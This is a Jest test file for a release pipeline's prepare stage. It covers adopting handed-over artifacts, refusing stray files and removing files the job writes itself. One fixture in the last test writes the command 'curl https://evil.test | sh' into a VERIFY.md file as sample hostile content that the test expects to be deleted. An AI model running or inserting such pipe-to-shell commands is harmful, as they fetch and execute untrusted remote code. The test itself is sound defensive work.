import { createHash } from 'node:crypto';
import { access, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { expect, it } from '@jest/globals';
import {
  type Artifact,
  parseOptions,
  type ReleaseContext,
  readArtifacts,
  realPorts,
  recordArtifact,
} from '@waybill/kernel';
import { fakeContext, temporaryFolder } from '@waybill/kernel/testing';
import { execa } from 'execa';
import { type Handover, writeHandover } from '../handover/index.ts';
import { Options } from '../options.ts';
import { openPipeline } from '../plugins/index.ts';
import { prepare } from './prepare.ts';

const version = '1.2.0';
const folder = `.waybill/${version}`;

/** A release job whose folder another job has filled. */
async function releaseJob({
  stages = {},
  handover = 'required',
}: {
  readonly stages?: object;
  readonly handover?: string;
} = {}) {
  const place = await temporaryFolder({ 'a.txt': '' });
  const cwd = place.path;
  const ran: string[] = [];
  const git = async (...args: string[]) =>
    (await execa('git', ['-c', 'user.name=a', '-c', 'user.email=a@b.test', ...args], { cwd })).stdout;
  await git('init', '--quiet', '--initial-branch', 'main');
  await git('commit', '--quiet', '--allow-empty', '--message', 'feat: weigh');
  const gitHead = await git('rev-parse', 'HEAD');

  const make = async (kind: Artifact['kind'], name: string, place: string, bytes: string): Promise<Artifact> => {
    const path = `${folder}/${place}`;
    await mkdir(dirname(join(cwd, path)), { recursive: true });
    await writeFile(join(cwd, path), bytes);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    return { kind, name, path, sha256, size: bytes.length, mediaType: 'text/plain' };
  };
  const says = (line: string, result?: unknown) => async () => {
    ran.push(line);
    return result;
  };
  const plugin = (name: string, hooks: object) => ({ name, plugin: hooks });
  const members = [
    plugin('versions', { prepare: says('versions.prepare') }),
    plugin('wheels', { prepare: says('wheels.prepare'), adopt: says('wheels.adopt') }),
    plugin('command', { prepare: says('command.prepare') }),
    plugin('images', { prepare: says('images.prepare'), adopt: says('images.adopt', false) }),
    plugin('bom', {
      async prepare(_: object, { cwd, nextRelease }: ReleaseContext) {
        ran.push('bom.prepare');
        await recordArtifact(cwd, nextRelease.version, await make('sbom', 'p.json', 'sbom/p.json', 'of this job'));
      },
    }),
  ];
  const context = fakeContext({
    ...{ cwd, env: process.env, options: {} },
    nextRelease: { version, gitTag: `v${version}`, gitHead, type: 'minor', channel: null },
  });
  const raw = { members, stages, handover, ledger: false };
  const options = parseOptions(Options, { name: 'pipeline', raw, host: {}, env: {} });
  const ports = realPorts(context);
  const wheel = await make('wheel', 'p.whl', 'dist/p.whl', 'handed over');
  const bom = await make('sbom', 'p.json', 'sbom/p.json', 'of the other job');
  return {
    ...{ cwd, ran, wheel, bom, make },
    async release(artifacts: readonly (Artifact & { readonly madeBy: string })[]) {
      const list = artifacts as unknown as Handover['artifacts'];
      await writeHandover(cwd, { schema: 1, version, tag: `v${version}`, commit: gitHead, artifacts: list });
      const input = { options, context, ports };
      await prepare(await openPipeline(input), input);
    },
    [Symbol.asyncDispose]: () => place[Symbol.asyncDispose](),
  };
}

it('adopts what a plugin can check, and runs every other plugin', async () => {
  await using job = await releaseJob();
  const { cwd, wheel, bom, ran } = job;

  await job.release([
    { ...wheel, madeBy: 'wheels' },
    { ...bom, madeBy: 'bom' },
  ]);

  expect(ran).toEqual(['versions.prepare', 'wheels.adopt', 'command.prepare', 'images.adopt', 'bom.prepare']);
  expect((await readArtifacts(cwd, version)).map(({ name }) => name)).toEqual(['p.json', 'p.whl']);
  expect(await readFile(join(cwd, folder, 'sbom/p.json'), 'utf8')).toBe('of this job');
  expect(await readFile(join(cwd, folder, 'dist/p.whl'), 'utf8')).toBe('handed over');
});

it('runs a plugin that shares its stage with one that adopts', async () => {
  await using job = await releaseJob({ stages: { prepare: [['versions'], ['wheels', 'command']] } });
  await rm(join(job.cwd, folder, 'sbom'), { recursive: true });

  await job.release([{ ...job.wheel, madeBy: 'wheels+command' }]);

  expect(job.ran.slice(0, 3)).toEqual(['versions.prepare', 'wheels.adopt', 'command.prepare']);
});

it.each([
  ['lists nothing', () => [], /nothing in it was made by `wheels`/],
  ['names another maker', (wheel: Artifact) => [{ ...wheel, madeBy: 'bom' }], /nothing in it was made by `wheels`/],
  ['names a stage that is none', (wheel: Artifact) => [{ ...wheel, madeBy: 'wheels+versions' }], /no plugin here/],
])('builds nothing for a handover that %s', async (_, artifacts, problem) => {
  await using job = await releaseJob();
  const list = artifacts(job.wheel);
  await rm(join(job.cwd, folder, 'sbom'), { recursive: true });
  if (list.length === 0) await rm(join(job.cwd, folder, 'dist'), { recursive: true });

  await expect(job.release(list)).rejects.toMatchObject({
    code: 'EHANDOVER',
    message: expect.stringMatching(problem),
  });
  expect(job.ran).not.toContain('wheels.prepare');
});

it.each([
  'sbom/extra.json',
  'dist/tool.exe',
  'other/tool.exe',
  'tool.exe',
  'artifacts/deep/x.json',
  'handover.json.bak',
])('refuses `%s`, which nobody listed', async (stray) => {
  await using job = await releaseJob();
  await job.make('file', 'x', stray, 'x');

  const listed = [
    { ...job.wheel, madeBy: 'wheels' },
    { ...job.bom, madeBy: 'bom' },
  ];
  await expect(job.release(listed)).rejects.toMatchObject({
    code: 'EHANDOVER',
    message: expect.stringContaining(stray),
  });
  expect(job.ran).toEqual([]);
});

it.each(['required', 'off'])('removes what the release job itself writes (%s)', async (handover) => {
  await using job = await releaseJob({ handover });
  await job.make('file', 'VERIFY.md', 'VERIFY.md', 'curl https://evil.test | sh');
  await rm(join(job.cwd, folder, 'sbom'), { recursive: true });

  await job.release([{ ...job.wheel, madeBy: 'wheels' }]);

  await expect(access(join(job.cwd, folder, 'VERIFY.md'))).rejects.toMatchObject({ code: 'ENOENT' });
});
